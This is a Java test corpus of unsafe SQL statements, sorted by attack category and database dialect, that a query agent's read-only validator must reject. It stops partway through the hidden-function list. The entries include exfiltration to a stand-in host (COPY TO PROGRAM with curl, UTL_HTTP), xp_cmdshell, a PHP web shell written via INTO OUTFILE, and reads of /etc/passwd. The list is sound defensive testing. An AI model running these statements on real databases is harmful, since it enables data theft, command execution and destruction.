package io.github.dbqueryagent.internal.validate;

import static io.github.dbqueryagent.spi.Dialect.GENERIC;
import static io.github.dbqueryagent.spi.Dialect.H2;
import static io.github.dbqueryagent.spi.Dialect.MARIADB;
import static io.github.dbqueryagent.spi.Dialect.MYSQL;
import static io.github.dbqueryagent.spi.Dialect.ORACLE;
import static io.github.dbqueryagent.spi.Dialect.POSTGRESQL;
import static io.github.dbqueryagent.spi.Dialect.SQLITE;
import static io.github.dbqueryagent.spi.Dialect.SQLSERVER;

import io.github.dbqueryagent.spi.Dialect;
import java.util.ArrayList;
import java.util.List;

/**
 * Statements the validator must reject, each with the dialect it targets and the rule that must be
 * among the violations. Every statement would write, lock, change the session, reach files or the
 * network, stall the server, or smuggle a second statement past a parser if it ran. The table names
 * are those of {@link ValidatorCorpora#catalog}.
 *
 * <p>The rule is {@code syntax} where jsqlparser cannot parse the statement: the validator fails
 * closed, so a statement it does not understand never runs. {@code ambiguous-syntax} marks text that
 * the database and jsqlparser would split differently (see {@code SqlTokens}).
 */
final class UnsafeSqlCorpus {
  private UnsafeSqlCorpus() {}

  /** What kind of attack an entry is. */
  enum Category {
    /** INSERT, UPDATE, DELETE, MERGE, UPSERT, DROP, TRUNCATE, ALTER, CREATE, GRANT, REVOKE and kin. */
    DML_DDL_DCL,
    /** A second statement after a query: {@code ;} tricks, comments, literals holding {@code ;}. */
    STACKED,
    /** A data-modifying statement inside a CTE, also nested and in subqueries. */
    MODIFYING_CTE,
    /** {@code SELECT ... INTO} a table or variable, {@code INTO TEMP}, {@code INTO UNLOGGED}. */
    SELECT_INTO,
    /** {@code FOR UPDATE}, {@code FOR SHARE}, {@code FOR NO KEY UPDATE}, {@code LOCK IN SHARE MODE}. */
    ROW_LOCK,
    /** {@code INTO OUTFILE}, {@code INTO DUMPFILE}. */
    FILE_EXPORT,
    /** Locking, transaction, session and server statements. */
    SESSION_ADMIN,
    /** {@code COPY} to and from files and programs. */
    COPY,
    /** EXEC/EXECUTE, CALL, DO blocks, DECLARE, PREPARE, anonymous blocks. */
    PROCEDURAL,
    /** A side-effecting or dangerous function called directly. */
    DENIED_FUNCTION,
    /** A denied function hidden in a subquery, CASE, ORDER BY, window, VALUES, argument, join, ... */
    HIDDEN_FUNCTION,
    /** A denied function behind quotes, mixed case, a schema or package, spaces or comments. */
    DISGUISED_NAME,
    /** Text the database and jsqlparser would split differently: escapes, comments, quoting. */
    PARSER_DIFFERENTIAL
  }

  /**
   * One statement.
   *
   * @param category the kind of attack
   * @param dialect the database it targets
   * @param rule the rule that must fire
   * @param sql the statement
   */
  record Case(Category category, Dialect dialect, String rule, String sql) {
    @Override
    public String toString() {
      String one = sql.replace("\r", "\\r").replace("\n", "\\n");
      return dialect + " " + rule + ": " + (one.length() > 90 ? one.substring(0, 90) + "..." : one);
    }
  }

  private static final List<Case> CASES = new ArrayList<>();

  private static void add(Category category, Dialect dialect, String rule, String sql) {
    CASES.add(new Case(category, dialect, rule, sql));
  }

  /** Returns every entry, in the order written. */
  static List<Case> cases() {
    return List.copyOf(CASES);
  }

  static {
    Category c = Category.DML_DDL_DCL;
    add(c, POSTGRESQL, "read-only", "INSERT INTO customer (id, name) VALUES (1, 'x')");
    add(c, POSTGRESQL, "read-only", "INSERT INTO customer SELECT * FROM customer");
    add(c, POSTGRESQL, "read-only", "INSERT INTO customer (id, name) VALUES (1, 'x') ON CONFLICT (id) DO UPDATE SET name = 'y'");
    add(c, POSTGRESQL, "read-only", "UPDATE customer SET name = 'x' WHERE id = 1");
    add(c, POSTGRESQL, "read-only", "UPDATE orders o SET total = 0 FROM customer c WHERE c.id = o.customer_id");
    add(c, POSTGRESQL, "read-only", "DELETE FROM orders USING customer WHERE orders.customer_id = customer.id");
    add(c, POSTGRESQL, "read-only", "MERGE INTO customer c USING orders o ON c.id = o.customer_id WHEN MATCHED THEN DELETE");
    add(c, POSTGRESQL, "read-only", "DROP TABLE IF EXISTS customer CASCADE");
    add(c, POSTGRESQL, "read-only", "DROP SCHEMA sales CASCADE");
    add(c, POSTGRESQL, "syntax", "TRUNCATE customer, orders RESTART IDENTITY");
    add(c, POSTGRESQL, "read-only", "ALTER TABLE customer RENAME TO old_customer");
    add(c, POSTGRESQL, "read-only", "CREATE TABLE stolen AS SELECT * FROM customer");
    add(c, POSTGRESQL, "read-only", "CREATE VIEW v AS SELECT * FROM customer");
    add(c, POSTGRESQL, "read-only", "CREATE INDEX customer_name ON customer (name)");
    add(c, POSTGRESQL, "read-only", "CREATE EXTENSION dblink");
    add(c, POSTGRESQL, "read-only", "CREATE OR REPLACE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql");
    add(c, POSTGRESQL, "read-only", "GRANT SELECT ON customer TO PUBLIC");
    add(c, POSTGRESQL, "read-only", "REVOKE ALL ON customer FROM PUBLIC");
    add(c, POSTGRESQL, "read-only", "COMMENT ON TABLE customer IS 'x'");
    add(c, POSTGRESQL, "read-only", "REFRESH MATERIALIZED VIEW customer_summary");
    add(c, MYSQL, "read-only", "REPLACE INTO customer (id, name) VALUES (1, 'x')");
    add(c, MYSQL, "read-only", "INSERT INTO customer (id, name) VALUES (1, 'x') ON DUPLICATE KEY UPDATE name = 'y'");
    add(c, MYSQL, "read-only", "INSERT IGNORE INTO customer (id) VALUES (1)");
    add(c, MYSQL, "read-only", "UPDATE customer SET name = 'x' ORDER BY id LIMIT 1");
    add(c, MYSQL, "read-only", "DELETE c FROM customer c JOIN orders o ON o.customer_id = c.id");
    add(c, MYSQL, "read-only", "DROP DATABASE shop");
    add(c, MYSQL, "read-only", "ALTER TABLE customer DROP COLUMN email");
    add(c, MYSQL, "read-only", "CREATE USER 'evil'@'%' IDENTIFIED BY 'x'");
    add(c, MYSQL, "syntax", "GRANT ALL PRIVILEGES ON *.* TO 'evil'@'%'");
    add(c, MYSQL, "read-only", "RENAME TABLE customer TO customer_old");
    add(c, MYSQL, "syntax", "LOAD DATA INFILE '/etc/passwd' INTO TABLE customer");
    add(c, MARIADB, "read-only", "INSERT INTO customer (id) VALUES (1) RETURNING id");
    add(c, MARIADB, "read-only", "DELETE FROM customer RETURNING *");
    add(c, MARIADB, "read-only", "CREATE OR REPLACE TABLE customer (id INT)");
    add(c, SQLITE, "read-only", "INSERT OR REPLACE INTO customer (id, name) VALUES (1, 'x')");
    add(c, SQLITE, "read-only", "INSERT INTO customer (id) VALUES (1) ON CONFLICT(id) DO NOTHING");
    add(c, SQLITE, "syntax", "UPDATE OR IGNORE customer SET name = 'x'");
    add(c, SQLITE, "read-only", "DELETE FROM customer");
    add(c, SQLITE, "single-statement", "CREATE TRIGGER t AFTER INSERT ON customer BEGIN DELETE FROM orders; END");
    add(c, SQLITE, "read-only", "ALTER TABLE customer RENAME COLUMN name TO full_name");
    add(c, SQLITE, "read-only", "CREATE VIRTUAL TABLE t USING fts5(x)");
    add(c, H2, "syntax", "MERGE INTO customer KEY (id) VALUES (1, 'x')");
    add(c, H2, "syntax", "CREATE ALIAS RUN_IT AS 'String run(String c) throws Exception { return c; }'");
    add(c, H2, "syntax", "DROP ALL OBJECTS DELETE FILES");
    add(c, H2, "read-only", "CREATE TABLE t AS SELECT * FROM customer");
    add(c, SQLSERVER, "read-only", "INSERT INTO customer (id, name) OUTPUT inserted.id VALUES (1, 'x')");
    add(c, SQLSERVER, "syntax", "UPDATE TOP (1) customer SET name = 'x'");
    add(c, SQLSERVER, "syntax", "DELETE TOP (10) FROM customer");
    add(c, SQLSERVER, "syntax", "MERGE customer AS t USING orders AS s ON t.id = s.customer_id WHEN MATCHED THEN UPDATE SET t.name = 'x';");
    add(c, SQLSERVER, "read-only", "DROP TABLE [customer]");
    add(c, SQLSERVER, "read-only", "TRUNCATE TABLE dbo.customer");
    add(c, SQLSERVER, "syntax", "CREATE LOGIN evil WITH PASSWORD = 'x'");
    add(c, SQLSERVER, "syntax", "GRANT CONTROL SERVER TO evil");
    add(c, SQLSERVER, "syntax", "DENY SELECT ON customer TO public");
    add(c, SQLSERVER, "syntax", "BULK INSERT customer FROM 'c:\\data\\x.csv'");
    add(c, ORACLE, "read-only", "INSERT ALL INTO customer (id) VALUES (1) SELECT * FROM dual");
    add(c, ORACLE, "read-only", "MERGE INTO customer c USING (SELECT 1 id FROM dual) s ON (c.id = s.id) WHEN MATCHED THEN UPDATE SET c.name = 'x'");
    add(c, ORACLE, "read-only", "DELETE customer WHERE id = 1");
    add(c, ORACLE, "syntax", "DROP TABLE customer PURGE");
    add(c, ORACLE, "read-only", "GRANT DBA TO scott");
    add(c, ORACLE, "read-only", "ALTER SYSTEM SET processes = 10 SCOPE = SPFILE");
    add(c, ORACLE, "syntax", "FLASHBACK TABLE customer TO BEFORE DROP");
    add(c, GENERIC, "read-only", "UPSERT INTO customer (id, name) VALUES (1, 'x')");
    add(c, GENERIC, "read-only", "CREATE SCHEMA evil");
    add(c, GENERIC, "read-only", "DROP INDEX customer_name");

    c = Category.STACKED;
    add(c, POSTGRESQL, "single-statement", "SELECT 1; DROP TABLE customer");
    add(c, POSTGRESQL, "single-statement", "SELECT * FROM customer;DELETE FROM customer;");
    add(c, POSTGRESQL, "single-statement", "SELECT 1 /* harmless */ ; UPDATE customer SET name = 'x'");
    add(c, POSTGRESQL, "single-statement", "SELECT 1 -- harmless\n; DROP TABLE customer");
    add(c, POSTGRESQL, "single-statement", "SELECT 'a;b' AS s; DROP TABLE customer");
    add(c, POSTGRESQL, "single-statement", "SELECT ';' AS s; DELETE FROM customer --'");
    add(c, POSTGRESQL, "single-statement", "SELECT 1 /* ; */ ; DROP TABLE customer");
    add(c, POSTGRESQL, "single-statement", "SELECT 1;\n\nDROP TABLE customer;\n-- the end");
    add(c, POSTGRESQL, "single-statement", "SELECT 1 ;; DROP TABLE customer");
    add(c, POSTGRESQL, "single-statement", "SELECT 1; BEGIN; DROP TABLE customer; COMMIT");
    add(c, POSTGRESQL, "single-statement", "SELECT \"a;b\" FROM customer; TRUNCATE customer");
    add(c, MYSQL, "single-statement", "SELECT 1; DROP TABLE customer");
    add(c, MYSQL, "single-statement", "SELECT `a;b` FROM customer; DELETE FROM customer");
    add(c, MARIADB, "single-statement", "SELECT * FROM customer; SHUTDOWN");
    add(c, SQLITE, "single-statement", "SELECT 1; ATTACH DATABASE '/tmp/x.db' AS x");
    add(c, SQLITE, "single-statement", "SELECT [a;b] FROM customer; DROP TABLE customer");
    add(c, H2, "single-statement", "SELECT 1; RUNSCRIPT FROM 'http://evil.example/x.sql'");
    add(c, H2, "single-statement", "SELECT 1;CALL CSVWRITE('/tmp/x.csv', 'SELECT * FROM customer')");
    add(c, SQLSERVER, "single-statement", "SELECT 1; EXEC xp_cmdshell 'whoami'");
    add(c, SQLSERVER, "single-statement", "SELECT name FROM customer SHUTDOWN");
    add(c, SQLSERVER, "single-statement", "SELECT name FROM customer CHECKPOINT");
    add(c, SQLSERVER, "single-statement", "SELECT * FROM customer DELETE FROM customer");
    add(c, SQLSERVER, "single-statement", "SELECT * FROM customer c WAITFOR DELAY '00:00:10'");
    add(c, SQLSERVER, "single-statement", "SELECT 1 AS x EXEC('DROP TABLE customer')");
    add(c, SQLSERVER, "single-statement", "SELECT name FROM customer\nDROP TABLE customer");
    add(c, SQLSERVER, "single-statement", "SELECT name FROM customer c KILL 52");
    add(c, ORACLE, "single-statement", "SELECT 1 FROM dual; DROP TABLE customer");
    add(c, GENERIC, "single-statement", "SELECT 1; SELECT 2");

    c = Category.MODIFYING_CTE;
    add(c, POSTGRESQL, "read-only", "WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d");
    add(c, POSTGRESQL, "read-only", "WITH u AS (UPDATE customer SET name = 'x' RETURNING id) SELECT * FROM u");
    add(c, POSTGRESQL, "read-only", "WITH i AS (INSERT INTO customer (id, name) VALUES (9, 'x') RETURNING id) SELECT * FROM i");
    add(c, POSTGRESQL, "read-only", "WITH a AS (WITH b AS (DELETE FROM orders RETURNING id) SELECT id FROM b) SELECT * FROM a");
    add(c, POSTGRESQL, "read-only", "SELECT * FROM customer WHERE id IN (WITH d AS (DELETE FROM orders RETURNING customer_id) SELECT customer_id FROM d)");
    add(c, POSTGRESQL, "read-only", "SELECT * FROM (WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d) x");
    add(c, POSTGRESQL, "read-only", "WITH ok AS (SELECT 1), d AS (DELETE FROM orders RETURNING *) SELECT * FROM ok");
    add(c, POSTGRESQL, "read-only", "WITH d AS (DELETE FROM orders) SELECT 1");
    add(c, POSTGRESQL, "read-only", "SELECT (WITH d AS (DELETE FROM orders RETURNING 1) SELECT count(*) FROM d)");
    add(c, POSTGRESQL, "read-only", "SELECT id FROM customer UNION ALL (WITH d AS (DELETE FROM orders RETURNING id) SELECT id FROM d)");
    add(c, POSTGRESQL, "read-only", "SELECT 1 WHERE EXISTS (WITH u AS (UPDATE orders SET total = 0 RETURNING 1) SELECT 1 FROM u)");
    add(c, POSTGRESQL, "read-only", "WITH RECURSIVE r AS (SELECT 1 AS n), d AS (DELETE FROM customer RETURNING id) SELECT * FROM r");
    add(c, SQLSERVER, "read-only", "WITH c AS (SELECT * FROM customer) DELETE FROM c");
    add(c, SQLSERVER, "read-only", "WITH c AS (SELECT TOP 1 * FROM customer) UPDATE c SET name = 'x'");
    add(c, GENERIC, "read-only", "WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d");

    c = Category.SELECT_INTO;
    add(c, POSTGRESQL, "select-into", "SELECT * INTO stolen FROM customer");
    add(c, POSTGRESQL, "syntax", "SELECT * INTO TEMP stolen FROM customer");
    add(c, POSTGRESQL, "syntax", "SELECT * INTO TEMPORARY TABLE stolen FROM customer");
    add(c, POSTGRESQL, "syntax", "SELECT * INTO UNLOGGED stolen FROM customer");
    add(c, POSTGRESQL, "syntax", "SELECT id INTO TABLE stolen FROM customer");
    add(c, POSTGRESQL, "select-into", "SELECT id INTO stolen FROM customer UNION SELECT id FROM orders");
    add(c, SQLSERVER, "select-into", "SELECT * INTO #tmp FROM customer");
    add(c, SQLSERVER, "select-into", "SELECT * INTO dbo.customer_copy FROM [customer]");
    add(c, SQLSERVER, "select-into", "SELECT TOP 10 * INTO ##global_copy FROM customer");
    add(c, MYSQL, "syntax", "SELECT id INTO @v FROM customer LIMIT 1");
    add(c, MYSQL, "syntax", "SELECT id FROM customer LIMIT 1 INTO @v");
    add(c, H2, "select-into", "SELECT * INTO customer_copy FROM customer");
    add(c, ORACLE, "select-into", "SELECT name INTO v_name FROM customer WHERE id = 1");
    add(c, GENERIC, "select-into", "SELECT * INTO customer_copy FROM customer");

    c = Category.ROW_LOCK;
    add(c, POSTGRESQL, "locking", "SELECT * FROM customer FOR UPDATE");
    add(c, POSTGRESQL, "locking", "SELECT * FROM customer FOR SHARE");
    add(c, POSTGRESQL, "locking", "SELECT * FROM customer FOR NO KEY UPDATE");
    add(c, POSTGRESQL, "locking", "SELECT * FROM customer FOR KEY SHARE");
    add(c, POSTGRESQL, "locking", "SELECT * FROM customer FOR UPDATE OF customer NOWAIT");
    add(c, POSTGRESQL, "locking", "SELECT * FROM customer FOR UPDATE SKIP LOCKED");
    add(c, POSTGRESQL, "locking", "SELECT * FROM (SELECT * FROM customer FOR UPDATE) x");
    add(c, POSTGRESQL, "locking", "WITH l AS (SELECT * FROM customer FOR UPDATE) SELECT * FROM l");
    add(c, POSTGRESQL, "locking", "SELECT * FROM orders WHERE customer_id IN (SELECT id FROM customer FOR SHARE)");
    add(c, MYSQL, "syntax", "SELECT * FROM customer LOCK IN SHARE MODE");
    add(c, MYSQL, "locking", "SELECT * FROM customer WHERE id = 1 FOR UPDATE");
    add(c, MYSQL, "locking", "SELECT * FROM customer FOR SHARE NOWAIT");
    add(c, MARIADB, "locking", "SELECT * FROM customer FOR UPDATE WAIT 5");
    add(c, MARIADB, "syntax", "SELECT * FROM customer LOCK IN SHARE MODE");
    add(c, ORACLE, "locking", "SELECT * FROM customer FOR UPDATE OF name WAIT 10");
    add(c, H2, "locking", "SELECT * FROM customer FOR UPDATE");
    add(c, GENERIC, "locking", "SELECT * FROM customer FOR UPDATE");
    add(c, SQLSERVER, "syntax", "SELECT * FROM customer WITH (UPDLOCK)");
    add(c, SQLSERVER, "syntax", "SELECT * FROM customer WITH (TABLOCKX, HOLDLOCK)");

    c = Category.FILE_EXPORT;
    add(c, MYSQL, "select-into", "SELECT * FROM customer INTO OUTFILE '/tmp/customer.csv'");
    add(c, MYSQL, "select-into", "SELECT * INTO OUTFILE '/tmp/customer.csv' FIELDS TERMINATED BY ',' FROM customer");
    add(c, MYSQL, "select-into", "SELECT name INTO DUMPFILE '/var/www/shell.php' FROM customer LIMIT 1");
    add(c, MYSQL, "select-into", "SELECT id FROM customer UNION SELECT id FROM orders INTO OUTFILE '/tmp/ids'");
    add(c, MARIADB, "select-into", "SELECT '<?php system($_GET[0]); ?>' INTO OUTFILE '/var/www/x.php'");
    add(c, MARIADB, "select-into", "SELECT name FROM customer INTO DUMPFILE '/tmp/name'");

    c = Category.SESSION_ADMIN;
    add(c, POSTGRESQL, "syntax", "LOCK TABLE customer IN ACCESS EXCLUSIVE MODE");
    add(c, POSTGRESQL, "read-only", "SET ROLE postgres");
    add(c, POSTGRESQL, "read-only", "SET SESSION AUTHORIZATION postgres");
    add(c, POSTGRESQL, "read-only", "RESET ALL");
    add(c, POSTGRESQL, "read-only", "SET search_path = evil, public");
    add(c, POSTGRESQL, "read-only", "SET transaction_read_only = off");
    add(c, POSTGRESQL, "syntax", "BEGIN");
    add(c, POSTGRESQL, "read-only", "COMMIT");
    add(c, POSTGRESQL, "read-only", "ROLLBACK");
    add(c, POSTGRESQL, "read-only", "SAVEPOINT s1");
    add(c, POSTGRESQL, "syntax", "START TRANSACTION READ WRITE");
    add(c, POSTGRESQL, "syntax", "VACUUM FULL customer");
    add(c, POSTGRESQL, "read-only", "ANALYZE customer");
    add(c, POSTGRESQL, "syntax", "REINDEX TABLE customer");
    add(c, POSTGRESQL, "syntax", "CHECKPOINT");
    add(c, POSTGRESQL, "syntax", "DISCARD ALL");
    add(c, POSTGRESQL, "syntax", "LISTEN channel");
    add(c, POSTGRESQL, "syntax", "LOAD 'plpgsql'");
    add(c, MYSQL, "syntax", "LOCK TABLES customer WRITE");
    add(c, MYSQL, "read-only", "SET GLOBAL general_log = 'ON'");
    add(c, MYSQL, "read-only", "SET @@session.sql_mode = ''");
    add(c, MYSQL, "read-only", "USE mysql");
    add(c, MYSQL, "syntax", "KILL 1");
    add(c, MYSQL, "syntax", "SHUTDOWN");
    add(c, MYSQL, "syntax", "FLUSH PRIVILEGES");
    add(c, MYSQL, "syntax", "OPTIMIZE TABLE customer");
    add(c, MARIADB, "read-only", "SET ROLE admin");
    add(c, MARIADB, "syntax", "KILL CONNECTION 3");
    add(c, MARIADB, "syntax", "SET STATEMENT max_statement_time = 0 FOR SELECT * FROM customer");
    add(c, SQLITE, "syntax", "PRAGMA writable_schema = 1");
    add(c, SQLITE, "syntax", "PRAGMA query_only = 0");
    add(c, SQLITE, "syntax", "ATTACH DATABASE '/tmp/x.db' AS x");
    add(c, SQLITE, "syntax", "DETACH DATABASE x");
    add(c, SQLITE, "syntax", "VACUUM");
    add(c, SQLITE, "syntax", "VACUUM INTO '/tmp/copy.db'");
    add(c, SQLITE, "syntax", "ANALYZE");
    add(c, SQLITE, "syntax", "REINDEX");
    add(c, SQLITE, "syntax", "BEGIN IMMEDIATE");
    add(c, H2, "read-only", "SET EXCLUSIVE 1");
    add(c, H2, "syntax", "SHUTDOWN IMMEDIATELY");
    add(c, H2, "syntax", "CHECKPOINT SYNC");
    add(c, H2, "syntax", "SCRIPT TO '/tmp/dump.sql'");
    add(c, H2, "syntax", "RUNSCRIPT FROM '/tmp/x.sql'");
    add(c, H2, "syntax", "BACKUP TO '/tmp/backup.zip'");
    add(c, SQLSERVER, "read-only", "USE master");
    add(c, SQLSERVER, "syntax", "SET IMPLICIT_TRANSACTIONS ON");
    add(c, SQLSERVER, "syntax", "SHUTDOWN WITH NOWAIT");
    add(c, SQLSERVER, "syntax", "KILL 52");
    add(c, SQLSERVER, "syntax", "BEGIN TRAN");
    add(c, SQLSERVER, "syntax", "DBCC FREEPROCCACHE");
    add(c, SQLSERVER, "syntax", "WAITFOR DELAY '00:00:10'");
    add(c, SQLSERVER, "syntax", "RECONFIGURE");
    add(c, SQLSERVER, "syntax", "EXECUTE AS LOGIN = 'sa'");
    add(c, ORACLE, "read-only", "LOCK TABLE customer IN EXCLUSIVE MODE");
    add(c, ORACLE, "read-only", "ALTER SESSION SET CURRENT_SCHEMA = sys");
    add(c, ORACLE, "syntax", "SET TRANSACTION READ WRITE");
    add(c, ORACLE, "syntax", "ANALYZE TABLE customer COMPUTE STATISTICS");
    add(c, GENERIC, "read-only", "SET SCHEMA evil");
    add(c, GENERIC, "syntax", "COMMIT WORK");

    c = Category.COPY;
    add(c, POSTGRESQL, "syntax", "COPY customer TO '/tmp/customer.csv'");
    add(c, POSTGRESQL, "syntax", "COPY customer FROM '/tmp/customer.csv'");
    add(c, POSTGRESQL, "syntax", "COPY (SELECT * FROM customer) TO PROGRAM 'curl -d @- http://evil.example'");
    add(c, POSTGRESQL, "syntax", "COPY customer FROM PROGRAM 'id'");
    add(c, POSTGRESQL, "syntax", "COPY customer TO STDOUT WITH (FORMAT csv)");
    add(c, POSTGRESQL, "syntax", "\\copy customer TO '/tmp/x.csv'");

    c = Category.PROCEDURAL;
    add(c, POSTGRESQL, "ambiguous-syntax", "DO $$ BEGIN DELETE FROM customer; END $$");
    add(c, POSTGRESQL, "syntax", "DO 'BEGIN DELETE FROM customer; END'");
    add(c, POSTGRESQL, "read-only", "CALL refresh_everything()");
    add(c, POSTGRESQL, "read-only", "EXECUTE purge_statement(1)");
    add(c, POSTGRESQL, "syntax", "PREPARE p AS DELETE FROM customer");
    add(c, POSTGRESQL, "syntax", "DEALLOCATE ALL");
    add(c, POSTGRESQL, "syntax", "DECLARE c CURSOR FOR SELECT * FROM customer");
    add(c, MYSQL, "read-only", "CALL sys.ps_truncate_all_tables(false)");
    add(c, MYSQL, "syntax", "PREPARE s FROM 'DROP TABLE customer'");
    add(c, MYSQL, "read-only", "EXECUTE s");
    add(c, MYSQL, "syntax", "DO SLEEP(5)");
    add(c, MARIADB, "read-only", "EXECUTE IMMEDIATE 'DROP TABLE customer'");
    add(c, MARIADB, "single-statement", "BEGIN NOT ATOMIC DELETE FROM customer; END");
    add(c, SQLSERVER, "read-only", "EXEC xp_cmdshell 'dir'");
    add(c, SQLSERVER, "read-only", "EXECUTE sp_executesql N'DROP TABLE customer'");
    add(c, SQLSERVER, "syntax", "EXEC('DROP TABLE customer')");
    add(c, SQLSERVER, "read-only", "EXEC master..xp_dirtree '//evil.example/share'");
    add(c, SQLSERVER, "read-only", "DECLARE @q NVARCHAR(100) = N'DROP TABLE customer'");
    add(c, SQLSERVER, "syntax", "sp_configure 'xp_cmdshell', 1");
    add(c, ORACLE, "single-statement", "BEGIN DELETE FROM customer; END;");
    add(c, ORACLE, "single-statement", "DECLARE x NUMBER; BEGIN x := 1; END;");
    add(c, ORACLE, "read-only", "CALL dbms_output.put_line('x')");
    add(c, H2, "read-only", "CALL FILE_WRITE('x', '/tmp/x')");
    add(c, H2, "read-only", "CALL CSVWRITE('/tmp/x.csv', 'SELECT * FROM customer')");
    add(c, GENERIC, "read-only", "CALL purge()");
    add(c, GENERIC, "read-only", "EXECUTE IMMEDIATE 'DROP TABLE customer'");

    c = Category.DENIED_FUNCTION;
    add(c, POSTGRESQL, "denied-function", "SELECT pg_sleep(10)");
    add(c, POSTGRESQL, "denied-function", "SELECT pg_sleep_for('5 minutes')");
    add(c, POSTGRESQL, "denied-function", "SELECT pg_read_file('/etc/passwd')");
    add(c, POSTGRESQL, "denied-function", "SELECT pg_read_binary_file('/etc/passwd')");
    add(c, POSTGRESQL, "denied-function", "SELECT * FROM pg_ls_dir('/')");
    add(c, POSTGRESQL, "denied-function", "SELECT lo_import('/etc/passwd')");
    add(c, POSTGRESQL, "denied-function", "SELECT lo_export(16384, '/tmp/x')");
    add(c, POSTGRESQL, "denied-function", "SELECT * FROM dblink('host=evil.example', 'SELECT 1') AS t(x int)");
    add(c, POSTGRESQL, "denied-function", "SELECT dblink_exec('host=localhost', 'DROP TABLE customer')");
    add(c, POSTGRESQL, "denied-function", "SELECT set_config('default_transaction_read_only', 'off', false)");
    add(c, POSTGRESQL, "denied-function", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity");
    add(c, POSTGRESQL, "denied-function", "SELECT pg_cancel_backend(1234)");
    add(c, POSTGRESQL, "denied-function", "SELECT pg_reload_conf()");
    add(c, POSTGRESQL, "denied-function", "SELECT nextval('orders_id_seq')");
    add(c, POSTGRESQL, "denied-function", "SELECT setval('orders_id_seq', 1)");
    add(c, POSTGRESQL, "denied-function", "SELECT query_to_xml('SELECT * FROM pg_shadow', true, true, '')");
    add(c, POSTGRESQL, "denied-function", "SELECT table_to_xml('pg_authid', true, true, '')");
    add(c, POSTGRESQL, "denied-function", "SELECT * FROM ts_stat('SELECT to_tsvector(passwd) FROM pg_shadow')");
    add(c, POSTGRESQL, "denied-function", "SELECT pg_advisory_lock(1)");
    add(c, POSTGRESQL, "denied-function", "SELECT pg_notify('channel', 'payload')");
    add(c, POSTGRESQL, "denied-function", "SELECT pg_switch_wal()");
    add(c, MYSQL, "denied-function", "SELECT SLEEP(10)");
    add(c, MYSQL, "denied-function", "SELECT BENCHMARK(100000000, MD5('x'))");
    add(c, MYSQL, "denied-function", "SELECT LOAD_FILE('/etc/passwd')");
    add(c, MYSQL, "denied-function", "SELECT GET_LOCK('x', 10)");
    add(c, MYSQL, "denied-function", "SELECT sys_exec('id')");
    add(c, MYSQL, "denied-function", "SELECT sys_eval('id')");
    add(c, MARIADB, "denied-function", "SELECT SLEEP(5) FROM customer");
    add(c, MARIADB, "denied-function", "SELECT LOAD_FILE('/etc/shadow') AS f");
    add(c, SQLITE, "denied-function", "SELECT load_extension('/tmp/evil.so')");
    add(c, SQLITE, "denied-function", "SELECT writefile('/tmp/x', 'y')");
    add(c, SQLITE, "denied-function", "SELECT readfile('/etc/passwd')");
    add(c, SQLITE, "denied-function", "SELECT fts3_tokenizer('simple')");
    add(c, SQLITE, "denied-function", "SELECT * FROM fsdir('/etc')");
    add(c, H2, "denied-function", "SELECT * FROM CSVREAD('/etc/passwd')");
    add(c, H2, "denied-function", "SELECT CSVWRITE('/tmp/x.csv', 'SELECT * FROM customer')");
    add(c, H2, "denied-function", "SELECT FILE_READ('/etc/passwd')");
    add(c, H2, "denied-function", "SELECT FILE_WRITE('x', '/tmp/x')");
    add(c, H2, "denied-function", "SELECT LINK_SCHEMA('evil', '', 'jdbc:h2:mem:x', 'sa', 'sa', 'PUBLIC')");
    add(c, H2, "denied-function", "SELECT CANCEL_SESSION(1)");
    add(c, H2, "denied-function", "SELECT NEXT VALUE FOR order_seq");
    add(c, SQLSERVER, "denied-function", "SELECT * FROM OPENQUERY(evil, 'SELECT 1')");
    add(c, SQLSERVER, "denied-function", "SELECT * FROM OPENROWSET('SQLNCLI', 'Server=evil;Trusted_Connection=yes;', 'SELECT 1')");
    add(c, SQLSERVER, "denied-function", "SELECT * FROM OPENDATASOURCE('SQLNCLI', 'Data Source=evil').db.dbo.t");
    add(c, SQLSERVER, "denied-function", "SELECT xp_cmdshell('whoami')");
    add(c, SQLSERVER, "denied-function", "SELECT sp_executesql('DROP TABLE customer')");
    add(c, SQLSERVER, "denied-function", "SELECT PWDCOMPARE('x', password_hash) FROM sys.sql_logins");
    add(c, SQLSERVER, "denied-function", "SELECT * FROM fn_trace_gettable('c:/x.trc', default)");
    add(c, ORACLE, "denied-function", "SELECT DBMS_PIPE.RECEIVE_MESSAGE('a', 10) FROM dual");
    add(c, ORACLE, "denied-function", "SELECT DBMS_LOCK.SLEEP(5) FROM dual");
    add(c, ORACLE, "denied-function", "SELECT UTL_HTTP.REQUEST('http://evil.example/') FROM dual");
    add(c, ORACLE, "denied-function", "SELECT UTL_INADDR.GET_HOST_ADDRESS('evil.example') FROM dual");
    add(c, ORACLE, "denied-function", "SELECT DBMS_XMLGEN.GETXML('SELECT * FROM dba_users') FROM dual");
    add(c, ORACLE, "denied-function", "SELECT HTTPURITYPE('http://evil.example/').GETCLOB() FROM dual");
    add(c, ORACLE, "denied-function", "SELECT order_seq.NEXTVAL FROM dual");
    add(c, GENERIC, "denied-function", "SELECT NEXT VALUE FOR order_seq");
    add(c, GENERIC, "denied-function", "SELECT nextval('s')");

    c = Category.HIDDEN_FUNCTION;
    add(c, POSTGRESQL, "denied-function", "SELECT * FROM customer WHERE id = (SELECT pg_sleep(5))");
    add(c, POSTGRESQL, "denied-function", "SELECT CASE WHEN id = 1 THEN pg_sleep(5) END FROM customer");
    add(c, POSTGRESQL, "denied-function", "SELECT name FROM customer ORDER BY pg_sleep(1)");
    add(c, POSTGRESQL, "denied-function", "SELECT name FROM customer GROUP BY name HAVING count(pg_sleep(1)) > 0");
    add(c, POSTGRESQL, "denied-function", "SELECT row_number() OVER (ORDER BY pg_sleep(1)) FROM customer");
    add(c, POSTGRESQL, "denied-function", "SELECT sum(id) OVER w FROM customer WINDOW w AS (PARTITION BY pg_sleep(1))");
    add(c, POSTGRESQL, "denied-function", "SELECT * FROM (VALUES (pg_sleep(1))) AS v(x)");
    add(c, POSTGRESQL, "denied-function", "VALUES (1), (pg_sleep(1))");
    add(c, POSTGRESQL, "denied-function", "SELECT coalesce(NULL, pg_read_file('/etc/passwd'))");
    add(c, POSTGRESQL, "denied-function", "SELECT length(pg_read_file('/etc/passwd'))");
